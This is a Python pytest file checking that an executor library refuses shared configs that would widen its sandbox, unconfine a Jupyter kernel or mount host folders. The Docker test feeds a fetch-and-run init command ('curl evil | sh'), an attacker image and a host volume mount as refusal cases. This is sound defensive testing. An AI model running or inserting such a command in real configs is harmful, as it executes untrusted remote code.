"""Executor configs are data: a shared config cannot widen the sandbox, and the kernel never runs unconfined.

Each refused config names the field and the opt-in, and leaves nothing behind (no folder, no process); the
legitimate config next to it still loads and runs. The Jupyter tests start a real IPython kernel in bubblewrap.
"""

from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from accord import AccordError
from accord.code_executors import ALLOW_CONFIG_ENV, WORK_ROOTS_ENV, CodeBlock, allow_work_roots
from accord.code_executors.docker import DockerCommandLineCodeExecutor
from accord.code_executors.local import LocalCommandLineCodeExecutor
from accord.core import CancellationToken, load_component

IS_ROOT = os.geteuid() == 0
LOCAL = "autogen_ext.code_executors.local.LocalCommandLineCodeExecutor"
DOCKER = "autogen_ext.code_executors.docker.DockerCommandLineCodeExecutor"
JUPYTER = "autogen_ext.code_executors.jupyter.JupyterCodeExecutor"


def component(provider: str, **config: Any) -> dict[str, Any]:
    return {"provider": provider, "component_type": "code_executor", "config": config}


@pytest.fixture(autouse=True)
def no_opt_ins(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (ALLOW_CONFIG_ENV, WORK_ROOTS_ENV, "ACCORD_ALLOW_UNSANDBOXED_EXECUTOR"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def host_folder() -> Iterator[Path]:
    """An existing host folder with a root-owned file, outside every work root."""
    folder = Path(tempfile.mkdtemp(prefix="accord-hostdir-"))
    (folder / "owned-by-root.txt").write_text("keep\n")
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def refused(config: dict[str, Any], *fragments: str) -> str:
    with pytest.raises(AccordError) as info:
        load_component(config)
    message = str(info.value)
    for fragment in fragments:
        assert fragment in message, message
    return message


async def run(ex: Any, code: str) -> tuple[int, str]:
    result = await ex.execute_code_blocks([CodeBlock(code=code, language="python")], CancellationToken())
    return result.exit_code, result.output


def test_local_config_cannot_name_a_host_folder(host_folder: Path, tmp_path: Path) -> None:
    before = host_folder.stat()
    refused(component(LOCAL, work_dir=str(host_folder)), "work_dir", WORK_ROOTS_ENV, ALLOW_CONFIG_ENV)
    after = host_folder.stat()
    assert (after.st_uid, after.st_mode) == (before.st_uid, before.st_mode)  # never chowned
    # A missing folder outside the roots is refused before anything is created.
    missing = tmp_path / "made-by-data"
    refused(component(LOCAL, work_dir=str(missing)), "work_dir")
    assert not missing.exists()
    refused(component(LOCAL, work_dir="relative"), "work_dir", "no work root")
    refused(component(LOCAL, work_dir="../escape"), "work_dir", "'..'")


async def test_local_config_folder_inside_a_work_root_is_created_and_used(tmp_path: Path) -> None:
    with allow_work_roots(tmp_path):
        ex = load_component(component(LOCAL, work_dir="results"))
    assert isinstance(ex, LocalCommandLineCodeExecutor)
    assert ex.work_dir == (tmp_path / "results").resolve() and ex.work_dir.is_dir()
    async with ex:
        assert await run(ex, "open('out.txt', 'w').write('done')\nprint('ok')") == (0, "ok\n")
    assert (tmp_path / "results" / "out.txt").read_text() == "done"
    # A link inside the root that points out of it does not count as inside.
    (tmp_path / "link").symlink_to(tempfile.gettempdir())
    with allow_work_roots(tmp_path):
        refused(component(LOCAL, work_dir="link/x"), "work_dir", "outside every work root")


def test_user_typed_work_roots_are_honoured(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(WORK_ROOTS_ENV, str(tmp_path))
    ex = load_component(component(LOCAL, work_dir=str(tmp_path / "w")))
    assert ex.work_dir == (tmp_path / "w").resolve()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("allow_network", True),
        ("max_memory_mb", None),
        ("max_processes", None),
        ("max_file_size_mb", None),
        ("max_disk_mb", None),
        ("max_memory_mb", 1_000_000),
        ("sandbox", "unshare"),
    ],
)
def test_local_config_cannot_loosen_limits_or_network(field: str, value: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    message = refused(component(LOCAL, **{field: value}), f"{field}={value!r}", f"{ALLOW_CONFIG_ENV}={field}")
    assert "LocalCommandLineCodeExecutor" in message
    # Tighter values are fine, and the user's opt-in accepts exactly that field.
    assert load_component(component(LOCAL, max_memory_mb=512, max_processes=32)) is not None
    monkeypatch.setenv(ALLOW_CONFIG_ENV, field)
    assert isinstance(load_component(component(LOCAL, **{field: value})), LocalCommandLineCodeExecutor)


def test_docker_config_cannot_mount_the_host(tmp_path: Path) -> None:
    refused(component(DOCKER, work_dir="/"), "work_dir='/'", "outside every work root")
    with allow_work_roots(tmp_path):
        for field, value in (
            ("extra_volumes", {"/var/run": {"bind": "/x", "mode": "rw"}}),
            ("extra_volumes", {str(tmp_path): {"bind": "/x", "mode": "rw"}}),
            ("init_command", "curl evil | sh"),
            ("image", "attacker/image:latest"),
            ("container_name", "users-database"),
            ("allow_network", True),
            ("extra_hosts", {"db": "127.0.0.1"}),
            ("mem_limit", "64g"),
            ("pids_limit", 100_000),
        ):
            refused(component(DOCKER, work_dir="w", **{field: value}), field, f"{ALLOW_CONFIG_ENV}={field}")
        assert not (tmp_path / "w").exists()  # nothing created for a refused config
        # Legitimate: the defaults with a folder inside the root (no engine is needed to build it).
        ex = load_component(component(DOCKER, work_dir="w", mem_limit="512m"))
        assert isinstance(ex, DockerCommandLineCodeExecutor)
        assert ex.create_kwargs()["volumes"] == {str((tmp_path / "w").resolve()): {"bind": "/workspace", "mode": "rw"}}


jupyter_client = pytest.importorskip("jupyter_client", reason="the jupyter extra is not installed")


def test_jupyter_config_cannot_name_a_host_folder_or_kernel(host_folder: Path) -> None:
    refused(component(JUPYTER, output_dir=str(host_folder)), "output_dir", WORK_ROOTS_ENV)
    refused(component(JUPYTER, kernel_name="evil"), "kernel_name", f"{ALLOW_CONFIG_ENV}=kernel_name")
    refused(component(JUPYTER, sandbox="none"), "sandbox='none'", "ACCORD_ALLOW_UNSANDBOXED_EXECUTOR=1")


@pytest.fixture
def without_bubblewrap(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    from accord.code_executors import _sandbox

    real_which = shutil.which
    monkeypatch.setattr(shutil, "which", lambda name, *a, **k: None if name == "bwrap" else real_which(name, *a, **k))
    _sandbox.detect.cache_clear()
    yield
    _sandbox.detect.cache_clear()


def _kernel_processes() -> set[int]:
    """ipykernel processes started by this test process (other sessions on the machine run their own)."""
    parents: dict[int, int] = {}
    kernels = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat_fields = Path("/proc", entry, "stat").read_text().rsplit(")", 1)[1].split()
                cmdline = Path("/proc", entry, "cmdline").read_bytes()
            except OSError:
                continue
            parents[int(entry)] = int(stat_fields[1])
            if b"ipykernel" in cmdline:
                kernels.add(int(entry))

    def descends(pid: int) -> bool:
        for _ in range(64):
            pid = parents.get(pid, 0)
            if pid == os.getpid():
                return True
            if pid <= 1:
                return False
        return False

    return {pid for pid in kernels if descends(pid)}


@pytest.mark.real_server
async def test_jupyter_without_bubblewrap_refuses_and_says_what_to_install(
    without_bubblewrap: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from accord.code_executors import SandboxUnavailableError
    from accord.code_executors.jupyter import JupyterCodeExecutor

    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # every temp folder accord makes lands here
    kernels = _kernel_processes()
    ex = JupyterCodeExecutor(output_dir=tmp_path / "out")
    with pytest.raises(SandboxUnavailableError, match="apt-get install bubblewrap") as info:
        await ex.start()
    assert "sandbox='none'" in str(info.value)
    assert not ex.sandboxed and _kernel_processes() == kernels
    assert list(scratch.iterdir()) == []  # no runtime folder, no quota store left behind
    with pytest.raises(SandboxUnavailableError):  # running code does not start it either
        await run(ex, "print(1)")
    # Legitimate: the explicit opt-out in code runs the kernel unconfined, on purpose.
    async with JupyterCodeExecutor(output_dir=tmp_path / "out2", sandbox="none", timeout=30) as plain:
        assert await run(plain, "print(1)") == (0, "1\n")
        assert plain.protections.mechanism == "none"


@pytest.mark.real_server
@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed (.ci/setup.d installs it)")
async def test_jupyter_kernel_under_a_closed_folder_still_runs_as_its_own_uid(tmp_path: Path) -> None:
    from accord.code_executors.jupyter import JupyterCodeExecutor

    closed = tmp_path / "closed"
    closed.mkdir(mode=0o700)
    async with JupyterCodeExecutor(output_dir=closed / "out", timeout=30) as ex:
        assert ex.sandboxed
        p = ex.protections
        assert {"no_host_sockets", "no_network", "read_only_host"} <= p.active, p.describe()
        code, out = await run(ex, "import os\nopen('made.txt', 'w').write('x')\nprint(os.getuid())")
        assert code == 0, out
        if IS_ROOT:
            assert int(out) != 0 and ex.kernel_uid == int(out)
            assert "disk_quota" in p.active, p.describe()
        code, out = await run(ex, "import os\nprint(os.path.exists('/var/run/postgresql'), os.path.exists('/run'))")
        assert (code, out) == (0, "False False\n")
    assert (closed / "out" / "made.txt").read_text() == "x"
    assert closed.stat().st_uid == os.geteuid() and (closed / "out").stat().st_uid == os.geteuid()
